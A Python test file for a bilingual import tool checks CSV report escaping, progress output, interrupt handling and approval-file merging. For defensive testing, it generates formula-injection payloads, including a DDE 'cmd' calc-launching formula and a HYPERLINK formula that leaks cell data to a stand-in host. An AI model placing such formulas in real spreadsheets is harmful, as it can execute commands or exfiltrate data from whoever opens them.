"""What an import leaves at the desk: progress, a report safe to open, files of approvals."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import time
from collections.abc import Iterator
from itertools import product
from pathlib import Path

import openpyxl
import pytest

from api.importing.desk import (
    STATUSES,
    Ran,
    approvals_in,
    harmless,
    lines_of,
    noting,
    report_of,
    watched,
)
from api.importing.ledger import read_ledger
from api.importing.run import RowProblem, RowTold
from mediation.errors import Malformed, OutcomeUnknown, Sentence
from tests.paper import as_csv, assert_told, settled

SIGNS = "=+-@＝＋－＠\t\r\n\x00"
BLANKS = ("", " ", "  \t", "\u3000", "\u00a0")
BODIES = (
    "1+1",
    "A1&B1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid?"&A1,"x")',
    "SUM(1)*2",
)
MADE = [f"{blank}{sign}{body}" for blank, sign, body in product(BLANKS, SIGNS, BODIES)]


def is_formula(cell: str) -> bool:
    """Say whether some spreadsheet program may take a cell for a formula, blanks before or not."""
    return cell[:1] in set(SIGNS) or cell.strip()[:1] in set(SIGNS)


PAYLOADS = [payload for payload in MADE if is_formula(payload)]


def told(row: int, **more: str) -> RowTold:
    """Give a row that was refused with these words."""
    problem = RowProblem(
        code=more.get("code", "refused"),
        title_i18n=Sentence("不予登记", "Refused"),
        detail_i18n=Sentence(more.get("zh", "请改正。"), more.get("en", "Mend it.")),
    )
    return RowTold(
        row=row, key=None, status="refused", case_number=more.get("number"), problem=problem
    )


class Terminal(io.StringIO):
    """A screen that is a terminal."""

    def isatty(self) -> bool:
        """Say so."""
        return True


# The report


def test_no_cell_of_a_report_is_ever_taken_for_a_formula():
    """Two hundred payloads, in every place where words of others could stand."""
    assert len(PAYLOADS) >= 200
    rows = [
        told(at, number=payload, code=payload, zh=payload, en=payload)
        for at, payload in enumerate(PAYLOADS)
    ]
    text = report_of(rows).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]

    assert len(cells) == 6 * (1 + len(PAYLOADS))
    assert [cell for cell in cells if is_formula(cell)] == []
    assert all(f"'{payload}" in cells for payload in PAYLOADS)


def test_a_spreadsheet_program_finds_texts_where_the_payloads_stood():
    """Written into a workbook, none of the escaped cells is a formula; unescaped, some are."""
    book = openpyxl.Workbook()
    printable = [it for it in PAYLOADS if "\x00" not in it]
    for payload in printable:
        book.active.append([harmless(payload), payload])

    kinds = [[cell.data_type for cell in row] for row in book.active]
    assert {escaped for escaped, _ in kinds} == {"s"}
    assert {plain for _, plain in kinds} == {"s", "f"}


def test_a_report_opens_as_it_is_meant():
    """Marked as UTF-8, with lines as spreadsheet programs end them, and nothing but six columns."""
    recorded = RowTold(row=2, key="import-1-1", status="recorded", case_number="示例〔2026〕0001号")
    data = report_of([recorded, told(3)])

    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == data.count(b"\n") == 3
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1] == ["2", "已登记 recorded", "示例〔2026〕0001号", "", "", ""]
    assert rows[2] == ["3", "未登记：按规则不能办理 refused", "", "refused", "请改正。", "Mend it."]


def test_payloads_in_a_ledger_stay_in_it():
    """A name that is a formula is malformed, whatever stands before it, and is not repeated."""
    for payload in PAYLOADS:
        if not payload.strip().startswith("="):
            continue
        [entry] = read_ledger(as_csv([settled(payload)]))
        assert entry.problem is not None
        assert_told(entry.problem)
        assert payload.strip() not in entry.problem.detail.zh


# The run as it is seen


def some(count: int) -> Iterator[RowTold]:
    """Give rows that were recorded."""
    for at in range(count):
        yield RowTold(row=at + 2, key=f"import-{at}-1", status="recorded", case_number=f"{at}号")


def test_a_terminal_shows_how_far_it_has_come_and_a_file_does_not():
    """One line that moves; nothing where nobody watches."""
    terminal, file = Terminal(), io.StringIO()

    assert watched(some(3), 3, terminal).is_clean
    assert watched(some(3), 3, file).is_clean
    shown = terminal.getvalue().split("\r")
    assert [it.rpartition("] ")[2].strip() for it in shown[1:]] == ["1/3", "2/3", "3/3"]
    assert file.getvalue() == ""


def test_ctrl_c_waits_for_the_case_at_hand_and_says_how_to_go_on():
    """The second row comes to its end, the third never begins; afterwards Ctrl-C is as before."""
    before = signal.getsignal(signal.SIGINT)
    begun = []

    def rows() -> Iterator[RowTold]:
        for row in some(5):
            begun.append(row.row)
            if row.row == 3:
                os.kill(os.getpid(), signal.SIGINT)
            yield row

    ran = watched(rows(), 5, io.StringIO())

    assert begun == [2, 3]
    assert [it.row for it in ran.rows] == [2, 3]
    assert not ran.is_clean
    assert "重新执行同一命令" in lines_of(ran)[-2]
    assert "run the same command again" in lines_of(ran)[-1]
    assert signal.getsignal(signal.SIGINT) is before


def test_a_second_ctrl_c_does_not_wait():
    """For a case that never comes to its end."""

    def rows() -> Iterator[RowTold]:
        asked = signal.getsignal(signal.SIGINT)
        os.kill(os.getpid(), signal.SIGINT)
        # Two at once could be told as one: the second comes when the first was heard.
        for _ in range(5000):
            if signal.getsignal(signal.SIGINT) is not asked:
                break
            time.sleep(0.001)
        os.kill(os.getpid(), signal.SIGINT)
        time.sleep(5)
        yield from some(1)

    # A process that was started in the background is born deaf to the signal.
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        with pytest.raises(KeyboardInterrupt):
            watched(rows(), 1, io.StringIO())
    finally:
        signal.signal(signal.SIGINT, before)


def test_a_store_that_does_not_answer_ends_the_run_with_what_to_do():
    """What was done before stands in the report."""

    def rows() -> Iterator[RowTold]:
        yield from some(2)
        raise OutcomeUnknown

    ran = watched(rows(), 3, io.StringIO())

    assert len(ran.rows) == 2
    assert not ran.is_clean
    assert "run the same command again" in lines_of(ran)[-1].lower()


def test_what_became_of_the_rows_is_said_in_two_languages():
    """The counts first, then each row that needs a hand."""
    ran = Ran()
    ran.rows = [*some(2), told(9)]

    assert lines_of(ran) == [
        "已登记 2，未登记：按规则不能办理 1 / 2 recorded, 1 refused",
        "行 9  请改正。",
        "row 9  Mend it.",
    ]
    assert not ran.is_clean
    assert lines_of(Ran()) == ["没有数据行 / no rows"]
    assert all(en.isascii() for _, en in STATUSES.values())


# Files of approvals


def test_the_approvals_of_two_people_come_together(tmp_path: Path):
    """One file of each; a row that both approved has both."""
    lead, coordinator = tmp_path / "lead.json", tmp_path / "coordinator.json"
    lead.write_text(json.dumps({"a": "1", "b": "2"}), encoding="utf-8")
    coordinator.write_text(json.dumps({"b": "3"}), encoding="utf-8")

    assert approvals_in([lead, coordinator]) == {"a": "1", "b": "2,3"}
    assert approvals_in([]) == {}


def test_approvals_are_noted_by_key():
    """Rows without one are passed on."""
    noted: dict[str, str] = {}
    first, second = some(2)

    assert list(noting([(first, "x"), (second, "")], noted)) == [first, second]
    assert noted == {"import-0-1": "x"}


@pytest.mark.parametrize("text", ["", "[]", '{"a": 1}', "\xff"])
def test_a_file_that_holds_no_approvals_is_refused(tmp_path: Path, text: str):
    """With where they come from."""
    file = tmp_path / "a.json"
    file.write_bytes(text.encode("latin-1"))

    with pytest.raises(Malformed) as error:
        approvals_in([file])
    assert error.value.code == "approvals-unreadable"
    assert_told(error.value)


def test_a_file_that_is_not_there_is_refused(tmp_path: Path):
    """Like one that may not be read; its name is not repeated."""
    with pytest.raises(Malformed) as error:
        approvals_in([tmp_path / "nowhere.json"])
    assert error.value.code == "file-unreadable"
    assert_told(error.value)
